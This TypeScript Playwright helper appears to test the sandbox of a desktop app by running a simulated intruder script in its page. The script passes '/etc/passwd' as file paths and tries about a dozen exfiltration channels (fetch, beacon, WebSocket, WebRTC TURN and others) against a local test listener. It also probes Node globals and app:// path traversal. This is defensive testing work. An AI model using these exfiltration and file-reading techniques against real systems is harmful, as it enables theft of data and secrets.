import type { Page } from 'playwright-core';
import { calls } from '../../../src/contract/calls.ts';
import type { Listener } from './listener.ts';

/** What a script that runs in the app's own page was able to do. */
export interface TakenOver {
  /** Calls that took a path in the place of a file that was chosen. */
  readonly tookPaths: readonly string[];
  /** Names that the page can call. */
  readonly names: readonly string[];
  /** Ways to the network that did not fail at once. What counts is what the listener heard. */
  readonly sent: readonly string[];
  /** Ways out of the page that are open to it: Node, other windows, the disk. */
  readonly wentOut: readonly string[];
}

/** Runs an intruder's script in the page, which tries what such a script would try. */
export function takeOver(page: Page, { tcpPort, udpPort }: Listener): Promise<TakenOver> {
  const fileFields = Object.entries(calls).flatMap(([name, { files }]) =>
    files.map((field) => [name, field] as const),
  );
  return page.evaluate(
    async ({ fields, tcp, udp }) => {
      const api = window.actionTen as unknown as Record<
        string,
        (input: unknown) => Promise<{ ok: boolean; code?: string }>
      >;
      const tookPaths: string[] = [];
      for (const [name, field] of fields) {
        const path = field === 'files' ? ['/etc/passwd'] : '/etc/passwd';
        const outcome = await api[name]?.({ [field]: path });
        if (outcome?.code !== 'not-permitted') tookPaths.push(`${name}.${field}`);
      }

      const sent: string[] = [];
      const address = `127.0.0.1:${tcp}`;
      const tries: Record<string, () => unknown> = {
        fetch: () => fetch(`http://${address}/?secret`, { mode: 'no-cors' }),
        xhr: () =>
          new Promise((resolve, reject) => {
            const request = new XMLHttpRequest();
            request.addEventListener('load', resolve);
            request.addEventListener('error', () => reject(new Error('refused')));
            request.open('GET', `http://${address}/`);
            request.send();
          }),
        socket: () =>
          new Promise((resolve, reject) => {
            const socket = new WebSocket(`ws://${address}/`);
            socket.addEventListener('open', resolve);
            socket.addEventListener('error', () => reject(new Error('refused')));
          }),
        beacon: () => {
          if (!navigator.sendBeacon(`http://${address}/`, 'secret')) throw new Error('refused');
        },
        picture: () =>
          new Promise((resolve, reject) => {
            const image = new Image();
            image.addEventListener('load', resolve);
            image.addEventListener('error', () => reject(new Error('refused')));
            image.src = `http://${address}/secret.png`;
          }),
        module: () => import(/* @vite-ignore */ `http://${address}/secret.js`),
        worker: () =>
          new Promise((resolve, reject) => {
            const worker = new Worker(
              URL.createObjectURL(
                new Blob([`fetch('http://${address}/').then(()=>postMessage(1))`]),
              ),
            );
            worker.addEventListener('message', resolve);
            worker.addEventListener('error', () => reject(new Error('refused')));
            setTimeout(() => reject(new Error('silent')), 500);
          }),
        hints: () => {
          for (const rel of ['preconnect', 'prefetch', 'dns-prefetch', 'stylesheet']) {
            const link = document.createElement('link');
            Object.assign(link, { rel, href: `http://${address}/` });
            document.head.append(link);
          }
        },
        frame: () => {
          const frame = document.createElement('iframe');
          frame.src = `http://${address}/`;
          document.body.append(frame);
        },
        form: () => {
          const form = document.createElement('form');
          Object.assign(form, { action: `http://${address}/`, method: 'post' });
          document.body.append(form);
          form.submit();
        },
        address: () => {
          location.href = `http://${address}/`;
        },
        calls: async () => {
          const peer = new RTCPeerConnection({
            iceServers: [
              { urls: `stun:127.0.0.1:${udp}` },
              { urls: `turn:127.0.0.1:${udp}`, username: 'a', credential: 'b' },
              { urls: `turn:127.0.0.1:${tcp}?transport=tcp`, username: 'a', credential: 'b' },
            ],
          });
          peer.createDataChannel('secret');
          await peer.setLocalDescription(await peer.createOffer());
          await new Promise((resolve) => setTimeout(resolve, 1_500));
          peer.close();
        },
      };
      for (const [name, attempt] of Object.entries(tries)) {
        try {
          await attempt();
          sent.push(name);
        } catch {
          // Refused, as it should be.
        }
      }

      const wentOut: string[] = [];
      for (const name of ['require', 'process', 'module', 'Buffer', 'ipcRenderer', '__dirname']) {
        if (name in window) wentOut.push(name);
      }
      if (window.open('https://example.com/') !== null) wentOut.push('window');
      try {
        const file = await fetch('file:///etc/passwd');
        if (file.ok) wentOut.push('file');
      } catch {
        // Refused, as it should be.
      }
      for (const path of ['app://ui/../../../etc/passwd', 'app://ui/%2e%2e/%2e%2e/package.json']) {
        const answer = await fetch(path).catch(() => null);
        if (answer?.ok === true) wentOut.push(path);
      }
      return { tookPaths, names: Object.keys(api), sent, wentOut };
    },
    { fields: fileFields, tcp: tcpPort, udp: udpPort },
  );
}
